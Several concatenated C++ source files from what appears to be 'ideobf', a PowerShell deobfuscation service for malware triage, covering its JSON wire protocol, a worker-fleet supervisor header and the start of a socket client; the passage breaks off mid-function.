bool read_string(const JsonValue& obj, std::string_view key, std::string& out,
                 std::string& error) {
  const JsonValue* v = obj.find(key);
  if (v == nullptr) return true;
  if (!v->is_string()) return type_error(error, key, "a string");
  out = v->as_string();
  return true;
}

/// Rejects keys outside `allowed` (strict schema: a typoed knob must fail
/// loudly, not silently run with defaults).
bool check_keys(const JsonValue& obj, std::initializer_list<std::string_view> allowed,
                std::string_view where, std::string& error) {
  const JsonValue::Object* o = obj.as_object();
  if (o == nullptr) return true;
  for (const auto& [key, value] : *o) {
    bool ok = false;
    for (std::string_view a : allowed) {
      if (key == a) {
        ok = true;
        break;
      }
    }
    if (!ok) {
      error = "unknown key '";
      error += key;
      error += "' in ";
      error += where;
      return false;
    }
  }
  return true;
}

bool parse_options_object(const JsonValue& v, Options& out, std::string& error) {
  if (!v.is_object()) return type_error(error, "options", "an object");
  if (!check_keys(v,
                  {"token_pass", "ast_recovery", "multilayer", "rename",
                   "reformat", "parse_cache", "threads", "limits", "telemetry",
                   "recovery"},
                  "options", error)) {
    return false;
  }
  if (!read_bool(v, "token_pass", out.token_pass, error)) return false;
  if (!read_bool(v, "ast_recovery", out.ast_recovery, error)) return false;
  if (!read_bool(v, "multilayer", out.multilayer, error)) return false;
  if (!read_bool(v, "rename", out.rename, error)) return false;
  if (!read_bool(v, "reformat", out.reformat, error)) return false;
  if (!read_bool(v, "parse_cache", out.parse_cache, error)) return false;
  if (!read_uint(v, "threads", out.threads, error)) return false;

  if (const JsonValue* limits = v.find("limits"); limits != nullptr) {
    if (!limits->is_object()) return type_error(error, "limits", "an object");
    if (!check_keys(*limits,
                    {"deadline_seconds", "memory_budget_bytes", "degrade",
                     "max_layers", "max_steps_per_piece", "max_piece_size",
                     "watchdog_factor"},
                    "options.limits", error)) {
      return false;
    }
    if (!read_double(*limits, "deadline_seconds", out.limits.deadline_seconds,
                     error)) {
      return false;
    }
    if (!read_uint(*limits, "memory_budget_bytes",
                   out.limits.memory_budget_bytes, error)) {
      return false;
    }
    if (!read_bool(*limits, "degrade", out.limits.degrade, error)) return false;
    if (!read_int(*limits, "max_layers", out.limits.max_layers, error)) {
      return false;
    }
    if (!read_uint(*limits, "max_steps_per_piece",
                   out.limits.max_steps_per_piece, error)) {
      return false;
    }
    if (!read_uint(*limits, "max_piece_size", out.limits.max_piece_size,
                   error)) {
      return false;
    }
    if (!read_double(*limits, "watchdog_factor", out.limits.watchdog_factor,
                     error)) {
      return false;
    }
  }

  if (const JsonValue* tele = v.find("telemetry"); tele != nullptr) {
    if (!tele->is_object()) return type_error(error, "telemetry", "an object");
    if (!check_keys(*tele, {"collect_trace", "max_trace_events"},
                    "options.telemetry", error)) {
      return false;
    }
    if (!read_bool(*tele, "collect_trace", out.telemetry.collect_trace,
                   error)) {
      return false;
    }
    if (!read_uint(*tele, "max_trace_events", out.telemetry.max_trace_events,
                   error)) {
      return false;
    }
  }

  if (const JsonValue* rec = v.find("recovery"); rec != nullptr) {
    if (!rec->is_object()) return type_error(error, "recovery", "an object");
    if (!check_keys(*rec,
                    {"trace_functions", "memo", "share_memo",
                     "extra_blocklist"},
                    "options.recovery", error)) {
      return false;
    }
    if (!read_bool(*rec, "trace_functions", out.recovery.trace_functions,
                   error)) {
      return false;
    }
    if (!read_bool(*rec, "memo", out.recovery.memo, error)) return false;
    if (!read_bool(*rec, "share_memo", out.recovery.share_memo, error)) {
      return false;
    }
    if (const JsonValue* bl = rec->find("extra_blocklist"); bl != nullptr) {
      const JsonValue::Array* arr = bl->as_array();
      if (arr == nullptr) {
        return type_error(error, "extra_blocklist", "an array of strings");
      }
      for (const JsonValue& item : *arr) {
        if (!item.is_string()) {
          return type_error(error, "extra_blocklist", "an array of strings");
        }
        out.recovery.extra_blocklist.push_back(item.as_string());
      }
    }
  }
  return true;
}

TraceEvent::Kind trace_kind_from_string(std::string_view name) {
  if (name == "token") return TraceEvent::Kind::TokenNormalized;
  if (name == "recovered") return TraceEvent::Kind::PieceRecovered;
  if (name == "traced") return TraceEvent::Kind::VariableTraced;
  if (name == "substituted") return TraceEvent::Kind::VariableSubstituted;
  if (name == "unwrapped") return TraceEvent::Kind::LayerUnwrapped;
  return TraceEvent::Kind::Renamed;
}

}  // namespace

bool parse_request_line(std::string_view line, WireRequest& out,
                        std::string& error) {
  std::optional<JsonValue> doc = parse_json(line, &error);
  if (!doc.has_value()) return false;
  if (!doc->is_object()) {
    error = "request line must be a JSON object";
    return false;
  }
  if (!check_keys(*doc,
                  {"op", "id", "source", "language", "deadline_ms", "trace",
                   "server_trace", "options", "scope"},
                  "request", error)) {
    return false;
  }

  std::string op = "deobfuscate";
  if (!read_string(*doc, "op", op, error)) return false;
  if (op == "ping") {
    out.op = WireRequest::Op::Ping;
    return true;
  }
  if (op == "metrics") {
    out.op = WireRequest::Op::Metrics;
    std::string scope;
    if (!read_string(*doc, "scope", scope, error)) return false;
    if (scope == "fleet") {
      out.fleet_scope = true;
    } else if (!scope.empty() && scope != "process") {
      error = "unknown metrics scope '" + scope + "'";
      return false;
    }
    return true;
  }
  if (op == "shutdown") {
    out.op = WireRequest::Op::Shutdown;
    return true;
  }
  if (op == "ready") {
    out.op = WireRequest::Op::Ready;
    return true;
  }
  if (op == "live") {
    out.op = WireRequest::Op::Live;
    return true;
  }
  if (op == "trace") {
    out.op = WireRequest::Op::Trace;
    return true;
  }
  if (op == "debug") {
    out.op = WireRequest::Op::Debug;
    return true;
  }
  if (op != "deobfuscate") {
    error = "unknown op '" + op + "'";
    return false;
  }

  out.op = WireRequest::Op::Deobfuscate;
  out.request = Request{};
  if (!read_string(*doc, "id", out.request.id, error)) return false;
  const JsonValue* source = doc->find("source");
  if (source == nullptr || !source->is_string()) {
    error = "deobfuscate request needs a string 'source'";
    return false;
  }
  out.request.source = source->as_string();
  if (!read_string(*doc, "language", out.request.language, error)) {
    return false;
  }
  // Strict like the rest of the schema: a typoed or unregistered language
  // must fail loudly here, not fall through to an engine passthrough.
  if (!valid_request_language(out.request.language)) {
    error = "unknown language '" + out.request.language + "'";
    return false;
  }
  if (!read_uint(*doc, "deadline_ms", out.request.deadline_ms, error)) {
    return false;
  }
  if (!read_bool(*doc, "trace", out.request.trace, error)) return false;
  if (!read_bool(*doc, "server_trace", out.request.server_trace, error)) {
    return false;
  }
  if (const JsonValue* options = doc->find("options"); options != nullptr) {
    Options parsed;
    if (!parse_options_object(*options, parsed, error)) return false;
    out.request.options = std::move(parsed);
  }
  return true;
}

std::string_view status_of(const Response& response) {
  if (!response.ok) return kStatusFailed;
  if (response.report.degradation_rung > 0) return kStatusDegraded;
  return kStatusOk;
}

std::string render_response_line(const Response& response) {
  return render_response_line(response, ResponseExtras{});
}

std::string render_response_line(const Response& response,
                                 const ResponseExtras& extras) {
  JsonWriter w;
  w.begin_object();
  w.field("id", response.id);
  if (!extras.request_id.empty()) w.field("request_id", extras.request_id);
  w.field("status", status_of(response));
  if (!response.language.empty()) w.field("language", response.language);
  w.field("result", response.result);
  w.field("failure", to_string(response.failure));
  w.field("failure_detail", response.failure_detail);
  w.field("rung", response.report.degradation_rung);
  w.field("attempts", response.report.attempts);
  w.field("passes", response.report.passes);
  w.field("seconds", response.seconds);
  w.key("report");
  w.begin_object();
  w.key("token");
  w.begin_object();
  w.field("ticks_removed", response.report.token.ticks_removed);
  w.field("aliases_expanded", response.report.token.aliases_expanded);
  w.field("case_normalized", response.report.token.case_normalized);
  w.end_object();
  w.key("recovery");
  w.begin_object();
  w.field("pieces_recovered", response.report.recovery.pieces_recovered);
  w.field("variables_traced", response.report.recovery.variables_traced);
  w.field("variables_substituted",
          response.report.recovery.variables_substituted);
  w.field("pieces_failed", response.report.recovery.pieces_failed);
  w.field("memo_hits", response.report.recovery.memo_hits);
  w.field("memo_misses", response.report.recovery.memo_misses);
  w.field("worst_failure",
          to_string(response.report.recovery.worst_failure));
  w.end_object();
  w.key("multilayer");
  w.begin_object();
  w.field("layers_unwrapped", response.report.multilayer.layers_unwrapped);
  w.end_object();
  w.key("rename");
  w.begin_object();
  w.field("renamed", response.report.rename.renamed);
  w.field("variables_renamed", response.report.rename.variables_renamed);
  w.field("functions_renamed", response.report.rename.functions_renamed);
  w.end_object();
  w.end_object();
  if (!response.report.trace.empty()) {
    w.begin_array("trace");
    for (const TraceEvent& e : response.report.trace) {
      w.begin_object();
      w.field("kind", to_string(e.kind));
      w.field("offset", static_cast<std::int64_t>(e.offset));
      w.field("before", e.before);
      w.field("after", e.after);
      w.field("pass", e.pass);
      w.end_object();
    }
    w.end_array();
  }
  if (response.report.trace_truncated) {
    w.field("trace_truncated", true);
    w.field("trace_dropped",
            static_cast<std::int64_t>(response.report.trace_dropped));
  }
  if (extras.server_trace) {
    const telemetry::PipelineProfile& profile = response.report.profile;
    w.key("server_trace");
    w.begin_object();
    w.field("worker", extras.worker);
    w.field("queue_seconds", extras.queue_seconds);
    w.field("cache_seconds", extras.cache_seconds);
    w.field("engine_seconds",
            profile.total_seconds(telemetry::Phase::Pipeline));
    w.field("accounted_seconds", profile.accounted_seconds());
    w.begin_array("phases");
    for (std::size_t i = 0; i < telemetry::kPhaseCount; ++i) {
      const auto phase = static_cast<telemetry::Phase>(i);
      const telemetry::PhaseStat& stat = profile.stat(phase);
      if (stat.count == 0) continue;
      w.begin_object();
      w.field("phase", telemetry::phase_name(phase));
      w.field("count", static_cast<std::int64_t>(stat.count));
      w.field("self_seconds", profile.self_seconds(phase));
      w.field("total_seconds", profile.total_seconds(phase));
      w.end_object();
    }
    w.end_array();
    w.end_object();
  }
  w.end_object();
  return w.str();
}

std::string render_error_line(std::string_view id, std::string_view status,
                              std::string_view message,
                              std::string_view request_id) {
  JsonWriter w;
  w.begin_object();
  w.field("id", id);
  if (!request_id.empty()) w.field("request_id", request_id);
  w.field("status", status);
  w.field("error", message);
  w.end_object();
  return w.str();
}

std::string render_overloaded_line(std::string_view id,
                                   std::string_view message,
                                   std::uint64_t retry_after_ms,
                                   std::string_view request_id) {
  JsonWriter w;
  w.begin_object();
  w.field("id", id);
  if (!request_id.empty()) w.field("request_id", request_id);
  w.field("status", kStatusOverloaded);
  w.field("error", message);
  w.field("retry_after_ms", static_cast<std::int64_t>(retry_after_ms));
  w.end_object();
  return w.str();
}

std::string render_ready_line(bool ready) {
  JsonWriter w;
  w.begin_object();
  w.field("status", kStatusOk);
  w.field("ready", ready);
  w.end_object();
  return w.str();
}

std::string render_live_line() {
  JsonWriter w;
  w.begin_object();
  w.field("status", kStatusOk);
  w.field("live", true);
  w.end_object();
  return w.str();
}

std::string render_metrics_line(std::string_view exposition, int worker,
                                int fleet_workers) {
  JsonWriter w;
  w.begin_object();
  w.field("status", kStatusOk);
  if (worker >= 0) w.field("worker", static_cast<std::int64_t>(worker));
  if (fleet_workers >= 0) {
    w.field("fleet_workers", static_cast<std::int64_t>(fleet_workers));
  }
  w.field("metrics", exposition);
  w.end_object();
  return w.str();
}

std::string render_pong_line() {
  JsonWriter w;
  w.begin_object();
  w.field("status", kStatusOk);
  w.field("pong", true);
  w.end_object();
  return w.str();
}

std::string render_shutdown_line() {
  JsonWriter w;
  w.begin_object();
  w.field("status", kStatusOk);
  w.field("shutdown", true);
  w.end_object();
  return w.str();
}

std::string render_request_line(const Request& request) {
  JsonWriter w;
  w.begin_object();
  w.field("op", "deobfuscate");
  if (!request.id.empty()) w.field("id", request.id);
  w.field("source", request.source);
  if (!request.language.empty()) w.field("language", request.language);
  if (request.deadline_ms != 0) {
    w.field("deadline_ms", static_cast<std::int64_t>(request.deadline_ms));
  }
  if (request.trace) w.field("trace", true);
  if (request.server_trace) w.field("server_trace", true);
  if (request.options.has_value()) {
    const Options& o = *request.options;
    w.key("options");
    w.begin_object();
    w.field("token_pass", o.token_pass);
    w.field("ast_recovery", o.ast_recovery);
    w.field("multilayer", o.multilayer);
    w.field("rename", o.rename);
    w.field("reformat", o.reformat);
    w.field("parse_cache", o.parse_cache);
    if (o.threads != 0) {
      w.field("threads", static_cast<std::int64_t>(o.threads));
    }
    w.key("limits");
    w.begin_object();
    w.field("deadline_seconds", o.limits.deadline_seconds);
    w.field("memory_budget_bytes",
            static_cast<std::int64_t>(o.limits.memory_budget_bytes));
    w.field("degrade", o.limits.degrade);
    w.field("max_layers", o.limits.max_layers);
    w.field("max_steps_per_piece",
            static_cast<std::int64_t>(o.limits.max_steps_per_piece));
    w.field("max_piece_size",
            static_cast<std::int64_t>(o.limits.max_piece_size));
    w.field("watchdog_factor", o.limits.watchdog_factor);
    w.end_object();
    w.key("telemetry");
    w.begin_object();
    w.field("collect_trace", o.telemetry.collect_trace);
    w.field("max_trace_events",
            static_cast<std::int64_t>(o.telemetry.max_trace_events));
    w.end_object();
    w.key("recovery");
    w.begin_object();
    w.field("trace_functions", o.recovery.trace_functions);
    w.field("memo", o.recovery.memo);
    w.field("share_memo", o.recovery.share_memo);
    if (!o.recovery.extra_blocklist.empty()) {
      w.begin_array("extra_blocklist");
      for (const std::string& name : o.recovery.extra_blocklist) {
        w.value(name);
      }
      w.end_array();
    }
    w.end_object();
    w.end_object();
  }
  w.end_object();
  return w.str();
}

std::string render_op_line(std::string_view op, std::string_view scope) {
  JsonWriter w;
  w.begin_object();
  w.field("op", op);
  if (!scope.empty()) w.field("scope", scope);
  w.end_object();
  return w.str();
}

bool parse_reply_line(std::string_view line, ServeReply& out,
                      std::string& error) {
  std::optional<JsonValue> doc = parse_json(line, &error);
  if (!doc.has_value()) return false;
  if (!doc->is_object()) {
    error = "reply line must be a JSON object";
    return false;
  }
  const JsonValue* status = doc->find("status");
  if (status == nullptr || !status->is_string()) {
    error = "reply has no 'status'";
    return false;
  }
  out = ServeReply{};
  out.status = status->as_string();

  Response& r = out.response;
  if (const JsonValue* v = doc->find("id"); v != nullptr) r.id = v->as_string();
  if (const JsonValue* v = doc->find("result"); v != nullptr) {
    r.result = v->as_string();
  }
  if (const JsonValue* v = doc->find("language"); v != nullptr) {
    r.language = v->as_string();
  }
  if (const JsonValue* v = doc->find("failure"); v != nullptr) {
    r.failure = ideobf::failure_from_string(v->as_string());
    r.report.failure = r.failure;
  }
  if (const JsonValue* v = doc->find("failure_detail"); v != nullptr) {
    r.failure_detail = v->as_string();
    r.report.failure_detail = r.failure_detail;
  }
  if (const JsonValue* v = doc->find("error"); v != nullptr) {
    r.failure_detail = v->as_string();
  }
  if (const JsonValue* v = doc->find("cached"); v != nullptr) {
    out.cached = v->as_bool();
  }
  if (const JsonValue* v = doc->find("retry_after_ms"); v != nullptr) {
    out.retry_after_ms = static_cast<std::uint64_t>(v->as_double());
  }
  if (const JsonValue* v = doc->find("rung"); v != nullptr) {
    r.report.degradation_rung = static_cast<int>(v->as_double());
  }
  if (const JsonValue* v = doc->find("attempts"); v != nullptr) {
    r.report.attempts = static_cast<int>(v->as_double());
  }
  if (const JsonValue* v = doc->find("passes"); v != nullptr) {
    r.report.passes = static_cast<int>(v->as_double());
  }
  if (const JsonValue* v = doc->find("seconds"); v != nullptr) {
    r.seconds = v->as_double();
  }
  if (const JsonValue* report = doc->find("report"); report != nullptr) {
    if (const JsonValue* t = report->find("token"); t != nullptr) {
      r.report.token.ticks_removed =
          static_cast<int>(t->find("ticks_removed") != nullptr
                               ? t->find("ticks_removed")->as_double()
                               : 0.0);
      r.report.token.aliases_expanded =
          static_cast<int>(t->find("aliases_expanded") != nullptr
                               ? t->find("aliases_expanded")->as_double()
                               : 0.0);
      r.report.token.case_normalized =
          static_cast<int>(t->find("case_normalized") != nullptr
                               ? t->find("case_normalized")->as_double()
                               : 0.0);
    }
    if (const JsonValue* rec = report->find("recovery"); rec != nullptr) {
      auto geti = [&](const char* key) {
        const JsonValue* v = rec->find(key);
        return v != nullptr ? static_cast<int>(v->as_double()) : 0;
      };
      r.report.recovery.pieces_recovered = geti("pieces_recovered");
      r.report.recovery.variables_traced = geti("variables_traced");
      r.report.recovery.variables_substituted = geti("variables_substituted");
      r.report.recovery.pieces_failed = geti("pieces_failed");
      r.report.recovery.memo_hits = geti("memo_hits");
      r.report.recovery.memo_misses = geti("memo_misses");
      if (const JsonValue* wf = rec->find("worst_failure"); wf != nullptr) {
        r.report.recovery.worst_failure =
            ideobf::failure_from_string(wf->as_string());
      }
    }
    if (const JsonValue* ml = report->find("multilayer"); ml != nullptr) {
      if (const JsonValue* v = ml->find("layers_unwrapped"); v != nullptr) {
        r.report.multilayer.layers_unwrapped = static_cast<int>(v->as_double());
      }
    }
    if (const JsonValue* rn = report->find("rename"); rn != nullptr) {
      if (const JsonValue* v = rn->find("renamed"); v != nullptr) {
        r.report.rename.renamed = v->as_bool();
      }
      if (const JsonValue* v = rn->find("variables_renamed"); v != nullptr) {
        r.report.rename.variables_renamed = static_cast<int>(v->as_double());
      }
      if (const JsonValue* v = rn->find("functions_renamed"); v != nullptr) {
        r.report.rename.functions_renamed = static_cast<int>(v->as_double());
      }
    }
  }
  if (const JsonValue* trace = doc->find("trace"); trace != nullptr) {
    if (const JsonValue::Array* arr = trace->as_array(); arr != nullptr) {
      for (const JsonValue& ev : *arr) {
        TraceEvent e;
        if (const JsonValue* v = ev.find("kind"); v != nullptr) {
          e.kind = trace_kind_from_string(v->as_string());
        }
        if (const JsonValue* v = ev.find("offset"); v != nullptr) {
          e.offset = static_cast<std::size_t>(v->as_double());
        }
        if (const JsonValue* v = ev.find("before"); v != nullptr) {
          e.before = v->as_string();
        }
        if (const JsonValue* v = ev.find("after"); v != nullptr) {
          e.after = v->as_string();
        }
        if (const JsonValue* v = ev.find("pass"); v != nullptr) {
          e.pass = static_cast<int>(v->as_double());
        }
        r.report.trace.push_back(std::move(e));
      }
    }
  }
  if (const JsonValue* v = doc->find("trace_truncated"); v != nullptr) {
    r.report.trace_truncated = v->as_bool();
  }
  if (const JsonValue* v = doc->find("trace_dropped"); v != nullptr) {
    r.report.trace_dropped = static_cast<std::size_t>(v->as_double());
  }
  if (const JsonValue* v = doc->find("request_id"); v != nullptr) {
    out.request_id = v->as_string();
  }
  if (const JsonValue* st = doc->find("server_trace"); st != nullptr) {
    ServerTrace& t = out.server_trace;
    t.present = true;
    auto getd = [&](const char* key) {
      const JsonValue* v = st->find(key);
      return v != nullptr ? v->as_double() : 0.0;
    };
    if (const JsonValue* v = st->find("worker"); v != nullptr) {
      t.worker = static_cast<int>(v->as_double());
    }
    t.queue_seconds = getd("queue_seconds");
    t.cache_seconds = getd("cache_seconds");
    t.engine_seconds = getd("engine_seconds");
    t.accounted_seconds = getd("accounted_seconds");
    if (const JsonValue* phases = st->find("phases"); phases != nullptr) {
      if (const JsonValue::Array* arr = phases->as_array(); arr != nullptr) {
        for (const JsonValue& p : *arr) {
          ServerTrace::PhaseBreakdown b;
          if (const JsonValue* v = p.find("phase"); v != nullptr) {
            b.phase = v->as_string();
          }
          if (const JsonValue* v = p.find("count"); v != nullptr) {
            b.count = static_cast<std::uint64_t>(v->as_double());
          }
          if (const JsonValue* v = p.find("self_seconds"); v != nullptr) {
            b.self_seconds = v->as_double();
          }
          if (const JsonValue* v = p.find("total_seconds"); v != nullptr) {
            b.total_seconds = v->as_double();
          }
          t.phases.push_back(std::move(b));
        }
      }
    }
  }
  r.ok = out.status == kStatusOk || out.status == kStatusDegraded;
  return true;
}

}  // namespace ideobf::server
