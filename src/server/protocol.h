#pragma once

/// \file protocol.h
/// The `ideobf serve` wire protocol: newline-delimited JSON, one request
/// object per line in, one response object per line out, same order per
/// connection. The schema is a 1:1 rendering of the public
/// `ideobf::Request` / `ideobf::Response` pair (include/ideobf/api.h) plus
/// three service ops — the server is the first consumer of the unified API,
/// not a second code path. Full worked examples: docs/SERVER.md.
///
/// Protocol statuses are a superset of the pipeline taxonomy: "overloaded"
/// (bounded-queue backpressure), "invalid" (malformed request) and
/// "shutting-down" never reach the pipeline, so they are protocol-level
/// verdicts, not FailureKinds.

#include <cstdint>
#include <string>
#include <string_view>

#include "ideobf/api.h"
#include "ideobf/client.h"

namespace ideobf::server {

// Protocol status strings (the `status` field of every response line).
inline constexpr std::string_view kStatusOk = "ok";
inline constexpr std::string_view kStatusDegraded = "degraded";
inline constexpr std::string_view kStatusFailed = "failed";
inline constexpr std::string_view kStatusOverloaded = "overloaded";
inline constexpr std::string_view kStatusInvalid = "invalid";
inline constexpr std::string_view kStatusShuttingDown = "shutting-down";

/// One parsed request line.
struct WireRequest {
  enum class Op {
    Deobfuscate,  ///< run the pipeline on `request`
    Ping,         ///< liveness round trip
    Metrics,      ///< Prometheus exposition of the process registry
    Shutdown,     ///< graceful drain: stop accepting, serve in-flight, exit
    Ready,        ///< readiness probe: accepting and not draining
    Live,         ///< liveness probe: the process answers at all
    Trace,        ///< Chrome trace JSON of the armed --trace-out recorder
    Debug,        ///< flight-recorder dump: recent request summaries
  };
  Op op = Op::Deobfuscate;
  Request request;  ///< meaningful for Op::Deobfuscate only
  /// For Op::Metrics: `"scope":"fleet"` asked for every worker's snapshot
  /// merged, not just this process's registry.
  bool fleet_scope = false;
};

/// Parses one request line. Strict: unknown top-level keys, wrong types, a
/// missing `source` on a deobfuscate op, or malformed JSON all fail with a
/// human-readable reason in `error` (the server answers those with an
/// "invalid" response rather than guessing).
bool parse_request_line(std::string_view line, WireRequest& out,
                        std::string& error);

/// The pipeline verdict of a served response: "ok" (full-strength output),
/// "degraded" (a lower ladder rung served real output), "failed"
/// (passthrough or sealed exception — Response::ok is false).
std::string_view status_of(const Response& response);

/// Server-side context spliced into a deobfuscate response line.
struct ResponseExtras {
  /// Echoed as `"request_id"` right after `id` when non-empty.
  std::string_view request_id;
  /// Fleet worker index; part of the server_trace object.
  int worker = -1;
  /// Render the `server_trace` object (queue/cache/engine breakdown from
  /// response.report.profile) — set for `"trace": true` requests.
  bool server_trace = false;
  double queue_seconds = 0.0;  ///< admission -> worker-slot dispatch
  double cache_seconds = 0.0;  ///< shared-cache lookup at admission
};

/// Renders a deobfuscate response line (no trailing newline).
std::string render_response_line(const Response& response);
std::string render_response_line(const Response& response,
                                 const ResponseExtras& extras);

/// Renders a service-level refusal/ack line: {"id":..,"status":..,"error":..}.
std::string render_error_line(std::string_view id, std::string_view status,
                              std::string_view message,
                              std::string_view request_id = {});

/// Renders an admission-control refusal: an "overloaded" error line carrying
/// `retry_after_ms`, the client's earliest useful retry time.
std::string render_overloaded_line(std::string_view id,
                                   std::string_view message,
                                   std::uint64_t retry_after_ms,
                                   std::string_view request_id = {});

/// Renders the ready/live probe replies:
/// {"status":"ok","ready":true|false} / {"status":"ok","live":true}.
std::string render_ready_line(bool ready);
std::string render_live_line();

/// Renders the metrics reply: {"status":"ok","worker":N,"metrics":"..."},
/// plus `"fleet_workers":M` when `fleet_workers >= 0` (the fleet-scope
/// merge). `worker < 0` omits the attribution (no fleet identity).
std::string render_metrics_line(std::string_view exposition, int worker = -1,
                                int fleet_workers = -1);

/// Renders the ping reply: {"status":"ok","pong":true}.
std::string render_pong_line();

/// Renders the shutdown ack: {"status":"ok","shutdown":true}.
std::string render_shutdown_line();

// --- Client side -----------------------------------------------------------

/// Renders a deobfuscate request line from the public Request (no trailing
/// newline). Request::options, when present, is rendered as the nested
/// `options` object.
std::string render_request_line(const Request& request);

/// Renders a service-op line: {"op":"ping"} / {"op":"metrics"} /
/// {"op":"shutdown"} / {"op":"trace"} / {"op":"debug"}. A non-empty `scope`
/// adds `"scope":"..."` (the fleet-wide metrics scrape).
std::string render_op_line(std::string_view op, std::string_view scope = {});

/// Parses one response line back into a ServeReply (the client's inverse of
/// render_response_line / render_error_line). Transport-level garbage —
/// non-JSON, missing status — returns false with a reason in `error`.
bool parse_reply_line(std::string_view line, ServeReply& out,
                      std::string& error);

}  // namespace ideobf::server
