#pragma once

/// \file supervisor.h
/// The fleet supervisor: binds the listeners once, fork+execs N worker
/// processes that inherit the listening fds (the kernel load-balances
/// accept() across them), and treats worker death as a normal event —
/// PowerShell malware triage feeds the workers actively hostile input, so
/// "a worker segfaulted" is an expected Tuesday, not an outage.
///
/// Responsibilities:
///  - restart dead workers with exponential backoff, reset after a stable
///    uptime, with a crash-loop circuit breaker per worker slot;
///  - scan each dead worker's crash journal for the script hashes that were
///    in flight, count crashes per hash, and quarantine repeat killers by
///    atomically publishing the quarantine file and SIGHUPing the fleet;
///  - publish a status JSON (state_dir/fleet.json) after every change so
///    operators and tests can observe pids, restart counts, and quarantine
///    size without a wire protocol;
///  - drain on SIGTERM/SIGINT: forward SIGTERM to every worker, wait, exit.
///
/// The supervisor itself never parses request bytes — it has no attack
/// surface beyond signals and waitpid.

#include <cstddef>
#include <cstdint>
#include <memory>
#include <string>
#include <vector>

namespace ideobf::server {

struct FleetConfig {
  /// Listener shape (bound by the supervisor, inherited by workers).
  std::string unix_socket_path;
  bool tcp = false;
  std::uint16_t tcp_port = 0;

  /// Fleet shape.
  unsigned workers = 2;
  unsigned threads_per_worker = 2;
  /// Directory for fleet state: crash journals, quarantine file, shared
  /// cache, status JSON. Created 0700 if missing.
  std::string state_dir;
  /// Binary to exec for workers; empty uses /proc/self/exe.
  std::string exec_path;

  /// Worker knobs forwarded on the child command line.
  std::size_t max_queue = 64;
  std::uint64_t default_deadline_ms = 0;
  double send_timeout_seconds = 10.0;
  double idle_timeout_seconds = 0.0;
  std::size_t outbuf_high_water_bytes = 32u << 20;
  double admission_rate = 0.0;
  double admission_burst = 0.0;
  bool cache = true;
  std::uint32_t cache_slots = 1024;
  std::uint32_t cache_slot_bytes = 16u << 10;
  std::string reload_config_path;
  /// Fault-injection spec forwarded verbatim as --fault (crash drills).
  std::string fault_spec;
  /// Structured-log threshold forwarded as --log-level (and applied to the
  /// supervisor's own records). Empty keeps logging off.
  std::string log_level;
  /// Forward --trace-out state_dir/trace.<N>.json to every worker so each
  /// writes its Chrome trace at exit (and serves the `trace` op live).
  bool trace = false;

  /// Restart policy.
  double backoff_initial_seconds = 0.25;
  double backoff_max_seconds = 5.0;
  /// A worker alive this long gets its backoff (and circuit window) reset.
  double stable_uptime_seconds = 10.0;
  /// Crash-loop circuit breaker: more than this many abnormal deaths of one
  /// slot inside `circuit_window_seconds` opens the circuit; the slot stays
  /// down for `circuit_reset_seconds`, then one half-open retry is allowed.
  unsigned circuit_max_restarts = 8;
  double circuit_window_seconds = 30.0;
  double circuit_reset_seconds = 10.0;

  /// A script hash seen in the journal of this many crashed workers is
  /// quarantined (ISSUE acceptance: repeat killers quarantined after <= 2).
  unsigned quarantine_after = 2;

  /// Drain budget when stopping: SIGTERM then wait this long before SIGKILL.
  double drain_grace_seconds = 30.0;
};

class Supervisor {
 public:
  explicit Supervisor(FleetConfig config);
  ~Supervisor();
  Supervisor(const Supervisor&) = delete;
  Supervisor& operator=(const Supervisor&) = delete;

  /// Binds listeners, prepares state_dir, spawns the initial fleet. Throws
  /// std::runtime_error on setup failure.
  void start();

  /// Supervises until a stop is requested (signal or request_stop());
  /// returns the process exit code (0 on clean drain).
  int run();

  /// Async-signal-safe-ish stop trigger (writes the self-pipe).
  void request_stop();

  /// Installs SIGTERM/SIGINT (drain) and SIGHUP (re-publish quarantine +
  /// forward SIGHUP to workers) handlers targeting this supervisor.
  void install_signal_handlers();

  /// The bound TCP port (after start(), when tcp is on).
  [[nodiscard]] std::uint16_t tcp_port() const;

  /// state_dir/fleet.json path (for tests and operators).
  [[nodiscard]] std::string status_path() const;

 private:
  struct Impl;
  std::unique_ptr<Impl> impl_;
};

}  // namespace ideobf::server
