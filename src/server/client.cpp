#include "ideobf/client.h"

#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <stdexcept>
#include <utility>

#include "server/json.h"
#include "server/protocol.h"

namespace ideobf {

struct ServeClient::Impl {
  int fd = -1;
  std::string buf;  ///< bytes received past the last consumed line
  /// Connect target, remembered so call_retrying can re-dial after a worker
  /// crash severs the connection. Unix when `unix_path` is non-empty.
  std::string unix_path;
  std::uint16_t tcp_port = 0;

  ~Impl() {
    if (fd >= 0) ::close(fd);
  }

  void send_all(std::string line) {
    if (line.empty() || line.back() != '\n') line.push_back('\n');
    const char* p = line.data();
    std::size_t left = line.size();
    while (left > 0) {
      ssize_t n = ::send(fd, p, left, MSG_NOSIGNAL);
      if (n < 0) {
        if (errno == EINTR) continue;
        throw std::runtime_error(std::string("send failed: ") +
                                 std::strerror(errno));
      }
      p += static_cast<std::size_t>(n);
      left -= static_cast<std::size_t>(n);
    }
  }

  std::string recv_line() {
    for (;;) {
      std::size_t pos = buf.find('\n');
      if (pos != std::string::npos) {
        std::string line = buf.substr(0, pos);
        buf.erase(0, pos + 1);
        return line;
      }
      char chunk[16384];
      ssize_t n = ::recv(fd, chunk, sizeof(chunk), 0);
      if (n < 0 && errno == EINTR) continue;
      if (n <= 0) {
        throw std::runtime_error("server closed the connection");
      }
      buf.append(chunk, static_cast<std::size_t>(n));
    }
  }
};

ServeClient ServeClient::connect_unix(const std::string& socket_path) {
  sockaddr_un addr{};
  if (socket_path.empty() || socket_path.size() >= sizeof(addr.sun_path)) {
    throw std::runtime_error("unix socket path empty or too long: '" +
                             socket_path + "'");
  }
  int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0) throw std::runtime_error("socket(AF_UNIX) failed");
  addr.sun_family = AF_UNIX;
  std::memcpy(addr.sun_path, socket_path.c_str(), socket_path.size() + 1);
  // Unix-socket connect() does not wait for backlog room the way TCP does:
  // a momentarily full backlog fails with EAGAIN immediately. Under a
  // connection storm that is routine, not an outage — retry briefly before
  // declaring the server unreachable.
  int rc;
  for (int attempt = 0;; ++attempt) {
    rc = ::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr));
    if (rc == 0 || (errno != EAGAIN && errno != EINTR) || attempt >= 500) {
      break;
    }
